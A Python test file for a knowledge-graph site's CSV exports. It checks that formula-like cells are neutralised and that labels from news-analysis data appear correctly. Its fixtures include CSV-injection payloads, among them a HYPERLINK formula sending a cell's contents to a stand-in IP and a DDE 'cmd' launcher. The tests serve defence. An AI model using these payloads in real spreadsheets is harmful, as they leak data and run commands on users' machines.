"""The CSV of lists for spreadsheets: no cell is a formula, and labels stand beside the IRIs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from urllib.parse import quote

import pytest
from rdflib import RDF, XSD, Literal, URIRef

from kg.datasets import GraphNames
from kg.export.spreadsheet_cells import SpreadsheetRows
from kg.namespaces import CQ
from kg.store import EmbeddedStore
from kg.workers.served_store import UnlimitedStore
from server import Settings, create_app
from tests.pages.conftest import Reader, running

FORMULAS = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
FORMULA_CHARACTERS = tuple("=+-@\t\r\n\uff1d")
NEGATIVE = ("-5", "-0.25", "-0044-03-15T12:00:00")
"""What begins with a minus sign and is no formula."""
PLAIN = (*NEGATIVE, "a = b, c", 'said "no"\nand left', "'tis", "", "x" * 200_000, "a\u2028b")


def cells(text: str) -> list[list[str]]:
    """Return the rows of CSV."""
    return [*csv.reader(io.StringIO(text, newline=""))]


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
    """Serve people whose names are formulas, and such as only look like them."""
    names = GraphNames("https://example.org/formulas/")
    store = EmbeddedStore.open(tmp_path_factory.mktemp("formulas"), names)
    people = [(URIRef(f"{names.base}{number}"), name) for number, name in enumerate((*FORMULAS, *PLAIN))]
    with store.write() as change:
        change.add(f"{names.base}graph/people", [(person, RDF.type, CQ.Person) for person, _ in people])
        change.add(f"{names.base}graph/people", [(person, CQ.name, Literal(name)) for person, name in people])
        change.commit("people", "2026-01-01T00:00:00Z")
    with running(create_app(UnlimitedStore(store), Settings(names.base, "formulas"))) as reader:
        yield reader


def test_no_cell_of_a_list_is_a_formula_and_no_other_is_changed(reader: Reader) -> None:
    header, *rows = cells(reader.get("/people", "text/csv").text)
    listed = [row[header.index("name")] for row in rows]
    assert sorted(listed) == sorted((*(f"'{formula}" for formula in FORMULAS), *PLAIN))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_CHARACTERS) and cell not in NEGATIVE]


def test_results_of_queries_are_as_the_recommendation_has_them(reader: Reader) -> None:
    query = f"SELECT ?name {{ ?person <{CQ.name}> ?name }}"
    _, *rows = cells(reader.get(f"/sparql?query={quote(query)}", "text/csv").text)
    assert sorted(row[0] if row else "" for row in rows) == sorted((*FORMULAS, *PLAIN))
    listed = json.loads(reader.get("/people", "application/sparql-results+json").text)["results"]["bindings"]
    assert sorted(row["name"]["value"] for row in listed) == sorted((*FORMULAS, *PLAIN))


@pytest.mark.parametrize("size", [1, 3, 4096])
def test_rows_are_the_same_whatever_chunks_they_come_in(size: int) -> None:
    text = io.StringIO()
    csv.writer(text).writerows([name, "é", name] for name in (*FORMULAS, *PLAIN[:4]))
    data = text.getvalue().encode()
    chunks = (data[start : start + size] for start in range(0, len(data), size))
    rows = cells(b"".join(SpreadsheetRows(chunks)).decode())
    assert [row[0] for row in rows] == [*(f"'{formula}" for formula in FORMULAS), *PLAIN[:4]]
    assert all(row == [row[0], "é", row[0]] for row in rows)


def test_what_chunks_come_from_is_closed_with_them() -> None:
    class Source(Iterator[bytes]):
        closed = False

        def __next__(self) -> bytes:
            return b"a,b\r\n"

        def close(self) -> None:
            self.closed = True

    source = Source()
    rows = SpreadsheetRows(source)
    rows.close()
    assert source.closed


def listed(reader: Reader, address: str, column: str, end: str) -> dict[str, str]:
    """Return the row of a list's CSV whose value in a column ends like this."""
    rows = csv.DictReader(io.StringIO(reader.get(address, "text/csv").text, newline=""))
    return next(row for row in rows if row[column].endswith(end))


def test_a_disagreement_has_who_says_it_for_whom_and_how_on_both_sides(site: Reader) -> None:
    row = listed(site, "/disagreements", "one", "/official-not-in-our-pocket")
    assert {
        key: row[f"one{key}"]
        for key in ("Quote", "Content", "SourceLabel", "ActLabel", "PolarityLabel", "CertaintyLabel")
    } == {
        "Quote": "they are not in our pocket",
        "Content": "The Haqqani network is an instrument in the hand of Pakistan's intelligence service.",
        "SourceLabel": "a Pakistani military official",
        "ActLabel": "deny",
        "PolarityLabel": "that something is not so",
        "CertaintyLabel": "certain",
    }
    assert row["oneSide"] == row["oneBehalfLabel"] == "the government of Pakistan"
    assert (row["otherSourceLabel"], row["otherSide"], row["otherActLabel"]) == ("Mike Mullen", "", "accuse")
    relayed = listed(site, "/disagreements", "one", "/us-expectations")
    assert (relayed["oneOuterLabel"], relayed["oneSide"]) == ("Hillary Clinton", "the United States government")


def test_a_list_of_statements_has_the_words_of_its_page(site: Reader) -> None:
    rows = [*csv.DictReader(io.StringIO(site.get("/statements", "text/csv").text, newline=""))]
    words = {key: {row[f"{key}Label"] for row in rows} for key in ("polarity", "certainty")}
    assert words == {
        "polarity": {"that something is so", "that something is not so", "something, whether it is so left open"},
        "certainty": {"certain", "not put forward as fact", "possible", "probable"},
    }
    facets = site.get("/statements").words
    for word in words["polarity"] | words["certainty"]:
        assert re.search(rf"\b{word} \d+", facets), word
    assert "underspecified" not in facets


def test_a_timeline_has_who_says_what_how_beside_its_moment(site: Reader) -> None:
    row = listed(site, "/timeline", "item", "/kayani-same-page")
    words = ("sourceLabel", "side", "actLabel", "outerLabel", "articleLabel")
    assert tuple(row[word] for word in words) == (
        "Ashfaq Parvez Kayani",
        "the government of Pakistan",
        "assess",
        "Hillary Clinton",
        "Pakistan, the United States and the Haqqani network, October 2011",
    )
    event = listed(site, "/timeline", "item", "/event/islamabad-talks")
    assert (event["kind"], event["sourceLabel"], event["actLabel"]) == ("event", "", "")


def test_a_list_of_what_is_planned_or_feared_says_by_whom(site: Reader) -> None:
    feared = listed(site, "/events", "happening", "/scenario/indian-influence")
    assert (feared["statusLabel"], feared["toldBy"]) == ("feared", "the Pakistanis (fear)")
    assert feared["articleLabel"] == "Pakistan, the United States and the Haqqani network, October 2011"
    arrival = listed(site, "/events", "happening", "/event/clinton-arrival")
    assert (arrival["place"], arrival["toldBy"]) == ("Islamabad", "")


def test_people_have_their_posts_and_ranks_as_on_their_page(site: Reader, series: Reader) -> None:
    clinton = listed(site, "/people", "agent", "/hillary-clinton")
    assert clinton["posts"] == "U.S. Secretary of State"
    assert listed(site, "/people", "agent", "/isi")["posts"] == ""
    posts = {reader.address: posts_of_list(reader) for reader in (site, series)}
    assert posts == {reader.address: posts_on_page(reader) for reader in (site, series)}
    assert all(sum(map(bool, of_people.values())) > 5 for of_people in posts.values())
    assert any(post.endswith(" (over)") for titles in posts[series.address].values() for post in titles)


def test_a_post_is_over_if_the_newest_article_has_it_so(tmp_path: Path) -> None:
    names = GraphNames("https://example.org/posts/")
    store, graph = EmbeddedStore.open(tmp_path / "store", names), f"{names.base}graph/people"
    post = URIRef(f"{names.base}minister")
    holdings_of = {
        "reappointed": ((CQ.formerHolder, "2033-05-01"), (CQ.incumbent, "2034-05-01")),
        "resigned": ((CQ.incumbent, "2033-05-01"), (CQ.formerHolder, "2034-05-01")),
    }
    with store.write() as change:
        change.add(graph, [(post, CQ.name, Literal("minister"))])
        for person, holdings in holdings_of.items():
            holder = URIRef(names.base + person)
            change.add(graph, [(holder, RDF.type, CQ.Person), (holder, CQ.name, Literal(person))])
            for relation, day in holdings:
                holding = URIRef(f"{holder}/{day}")
                triples = [(holding, CQ.holder, holder), (holding, relation, holder), (holding, CQ.post, post)]
                change.add(graph, [*triples, (holding, CQ.asOf, Literal(day, datatype=XSD.date))])
        change.commit("people", "2034-06-01T00:00:00Z")
    with running(create_app(UnlimitedStore(store), Settings(names.base, "posts"))) as reader:
        expected = {"reappointed": ["minister"], "resigned": ["minister (over)"]}
        assert posts_of_list(reader) == posts_on_page(reader) == expected


def posts_of_list(reader: Reader) -> dict[str, list[str]]:
    """Return the posts and ranks in the CSV of people, by the last part of the person's address."""
    people = csv.DictReader(io.StringIO(reader.get("/people?kind=person", "text/csv").text, newline=""))
    return {row["agent"].rpartition("/")[2]: sorted(filter(None, row["posts"].split("; "))) for row in people}


def posts_on_page(reader: Reader) -> dict[str, list[str]]:
    """Return the posts and ranks that the list of people shows, by the last part of the person's address."""
    table = re.findall(
        r'<th scope="row"><a [^>]*href="[^"]*/([^"/]+)"[^>]*>.*?</th><td>(.*?)</td>',
        reader.get("/people?kind=person").text,
    )
    cells_by_person = {person: unescape(re.sub(r"<[^>]*>", "", cell)) for person, cell in table}
    return {
        person: [] if cell == "none known" else sorted(cell.split(", ")) for person, cell in cells_by_person.items()
    }


def test_what_was_planned_has_what_became_of_it(series: Reader) -> None:
    patrols = listed(series, "/events", "happening", "/ferry-fire/scenario/patrols")
    assert "came true in the first joint patrol" in patrols["became"].split("; ")
    assert listed(series, "/events", "happening", "/correction/event/first-patrol")["became"] == ""


def test_a_disagreement_has_its_topics(site: Reader) -> None:
    row = listed(site, "/disagreements", "one", "/official-not-in-our-pocket")
    assert "the relationship of the ISI with the Haqqani network" in row["topics"].split("; ")
